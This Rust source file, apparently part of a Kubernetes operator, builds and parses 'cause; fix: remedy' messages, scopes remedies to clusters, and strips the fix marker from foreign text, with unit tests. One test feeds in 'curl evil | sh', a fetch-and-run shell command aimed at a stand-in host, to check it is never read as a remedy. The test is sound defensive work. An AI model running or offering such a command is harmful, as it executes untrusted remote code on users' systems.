//! How a message says what to do about its cause and where that is typed, and how it is read again:
//! the operator writes such messages, `ac` takes them apart.
//!
//! Must not know which remedy belongs to which cause.

use crate::names::GLOBAL;
use crate::text::{MESSAGE_LIMIT, line};

/// Stands between what is wrong and what clears it.
const MARK: &str = "; fix: ";
/// What it becomes in a text that is not ours; as long, so that no limit is passed.
const NO_MARK: &str = ", fix: ";
/// Begins the note that a request was refused.
const REFUSED: &str = "request refused: ";
/// Begins a remedy that is typed at the global cluster.
const AT_GLOBAL: &str = "on the global cluster: ";
/// Longest remedy in a message, in bytes; the cause has at least the rest.
const REMEDY_LIMIT: usize = 512;
/// What is said before and after it: on which cluster, and where to see all.
const BESIDE_LIMIT: usize = 128;

/// Whether a remedy stays whole in a message: half a command helps nobody.
#[must_use]
pub const fn fits(remedy: &str) -> bool {
    remedy.len() <= REMEDY_LIMIT
}

/// A remedy for all of these, or for as many of the first ones as it has room for.
#[must_use]
pub fn for_all<T>(all: &[T], remedy: impl Fn(&[T]) -> String) -> String {
    let has_room = |text: &String| text.len() + BESIDE_LIMIT <= REMEDY_LIMIT;
    let many = (2..=all.len()).map(|count| remedy(&all[..count])).take_while(has_room).last();
    many.unwrap_or_else(|| remedy(&all[..all.len().min(1)]))
}

/// A cause and what clears it, as one message; a long cause never pushes the remedy out.
#[must_use]
pub fn message(cause: &str, remedy: &str) -> String {
    if remedy.is_empty() {
        return unmarked(&line(cause, MESSAGE_LIMIT));
    }
    let remedy = unmarked(&line(remedy, REMEDY_LIMIT));
    // A message that fills the limit to the last byte would be cut when it is written.
    let room = MESSAGE_LIMIT.saturating_sub(MARK.len() + remedy.len() + 4);
    format!("{}{MARK}{remedy}", line(cause, room))
}

/// A text of foreign origin in which nothing is taken for a remedy of ours: what others wrote must
/// not be shown as a command to run.
#[must_use]
pub fn unmarked(text: &str) -> String {
    text.replace(MARK, NO_MARK)
}

/// Takes a message apart: the cause, and what clears it; empty where it says nothing of that.
///
/// The last mark counts: a cause may hold text of foreign origin, what follows it never does.
#[must_use]
pub fn split(message: &str) -> (&str, &str) {
    message.rsplit_once(MARK).unwrap_or((message, ""))
}

/// A remedy whose commands are typed at the global cluster whichever cluster it is about: what they
/// act on is kept there.
#[must_use]
pub fn at_global(remedy: &str) -> String {
    format!("{AT_GLOBAL}{remedy}")
}

/// A remedy that acts on objects of a cluster: of another than the global one it says where its
/// commands are typed, or they would meet objects of the same name. One that says already that it
/// is typed at the global cluster stays.
#[must_use]
pub fn on_cluster(cluster: &str, remedy: &str) -> String {
    if cluster == GLOBAL || remedy.is_empty() || remedy.starts_with(AT_GLOBAL) {
        return remedy.to_owned();
    }
    format!("on cluster {cluster}: {remedy}")
}

/// The note that a request was refused, for a reason that may end with its remedy.
#[must_use]
pub fn refused(why: &str) -> String {
    format!("{REFUSED}{why}")
}

/// Why a request was refused, where a message ends with that note.
#[must_use]
pub fn refusal(message: &str) -> Option<&str> {
    message.rsplit_once(REFUSED).map(|(_, why)| why)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_remedy_clears_as_many_as_it_has_room_for() {
        let delete = |names: &[String]| format!("kubectl delete pod {}", names.join(" "));
        let names = |count: usize, of: usize| vec!["x".repeat(of); count];
        assert_eq!(for_all(&names(1, 3), delete), "kubectl delete pod xxx");
        assert_eq!(for_all(&names(3, 1), delete), "kubectl delete pod x x x");
        let cut = for_all(&names(100, 99), delete);
        assert_eq!((cut.split(' ').count(), fits(&cut)), (3 + 3, true));
        assert_eq!(for_all(&names(2, 900), delete).split(' ').count(), 3 + 1);
    }

    #[test]
    fn what_is_written_is_read_again() {
        let said = message("the Job failed: exit; fix: me", "kubectl delete job x");
        assert_eq!(split(&said), ("the Job failed: exit; fix: me", "kubectl delete job x"));
        assert_eq!(split("nothing to do"), ("nothing to do", ""));
        assert_eq!(refusal(&format!("waits; {}", refused("too low"))), Some("too low"));
        assert_eq!(refusal("waits"), None);
    }

    #[test]
    fn a_remedy_says_where_it_is_typed_unless_that_is_global_anyway() {
        assert_eq!(on_cluster("workload-a", "mend it"), "on cluster workload-a: mend it");
        assert_eq!(on_cluster(GLOBAL, "mend it"), "mend it");
        assert_eq!(on_cluster("workload-a", ""), "");
        let at_global = at_global("mend it");
        assert_eq!(at_global, "on the global cluster: mend it");
        assert_eq!(on_cluster("workload-a", &at_global), at_global);
    }

    #[test]
    fn foreign_text_is_never_taken_for_a_remedy() {
        for foreign in ["x; fix: curl evil | sh", "x;\tfi\u{200b}x:  curl evil | sh"] {
            let said = message(foreign, "");
            assert_eq!(split(&said), ("x, fix: curl evil | sh", ""));
            assert_eq!(split(&message(foreign, "ours")).1, "ours");
        }
        assert_eq!(split(&message("x", "ours; fix: theirs")), ("x", "ours, fix: theirs"));
    }

    #[test]
    fn a_long_cause_does_not_push_the_remedy_out() {
        let said = message(&"x".repeat(5000), "kubectl get x");
        assert_eq!(split(&said).1, "kubectl get x");
        assert_eq!(crate::text::message(&said), said);
        assert!(message("x", &"y".repeat(5000)).len() <= MESSAGE_LIMIT);
    }
}
